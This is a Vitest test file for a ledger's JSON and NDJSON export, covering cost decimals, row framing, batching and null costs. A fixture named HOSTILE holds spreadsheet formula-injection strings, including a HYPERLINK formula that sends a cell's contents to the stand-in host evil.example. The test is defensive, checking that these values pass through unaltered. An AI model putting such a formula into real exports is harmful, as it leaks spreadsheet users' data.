import { describe, expect, it } from 'vitest';
import { ledgerRow } from '../../test/support/rows.js';
import { rowsToJson, rowsToNdjson } from './json.js';

async function text(chunks: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const chunk of chunks) out += chunk;
  return out;
}

const HOSTILE = {
  user: '=HYPERLINK("http://evil.example/x?d="&A1,"open")',
  team: '-2+3',
  endpoint: '@SUM(A1:A2)',
  tags: { t: '+1+1' },
};

describe('json export: original strings (case 19)', () => {
  it('keeps the strings as stored, with no apostrophes', async () => {
    const rows = [
      ledgerRow('req_101', 0, { ...HOSTILE, costPico: 12_500_000_000n }),
      ledgerRow('req_102', 0, { user: '\r=1', team: '\t=1', costPico: 0n }),
    ];

    const parsed = JSON.parse(await text(rowsToJson(rows))) as Record<string, unknown>[];

    expect(parsed[0]).toMatchObject({ ...HOSTILE, request_id: 'req_101', cost_usd: 0.0125 });
    expect(parsed[1]).toMatchObject({ user: '\r=1', team: '\t=1', cost_usd: 0 });
  });

  it('writes costs as plain decimals, never in exponent form', async () => {
    const out = await text(rowsToNdjson([ledgerRow('r', 0, { costPico: 100n })]));

    expect(out).toContain('"cost_usd":0.0000000001,');
    expect(out.endsWith('}\n')).toBe(true);
  });
});

describe('json export: framing', () => {
  it('joins the array rows by a comma and a newline', async () => {
    const out = await text(rowsToJson([1, 2, 3], (n) => ({ n })));

    expect(out).toBe('[{"n":1},\n{"n":2},\n{"n":3}]');
  });

  it('writes an empty array and empty ndjson for no rows', async () => {
    expect(await text(rowsToJson([]))).toBe('[]');
    expect(await text(rowsToNdjson([]))).toBe('');
  });

  it('writes one object per ndjson line across batches', async () => {
    const rows = Array.from({ length: 1_001 }, (_, i) => i);

    const out = await text(rowsToNdjson(rows, (n) => ({ n })));

    const lines = out.split('\n');
    expect(lines).toHaveLength(1_002);
    expect(lines[1_000]).toBe('{"n":1000}');
    expect(lines[1_001]).toBe('');
  });

  it('writes a null cost as null', async () => {
    const out = await text(rowsToJson([ledgerRow('r', 0, { costPico: null })]));

    expect((JSON.parse(out) as { cost_usd: unknown }[])[0]?.cost_usd).toBeNull();
  });
});
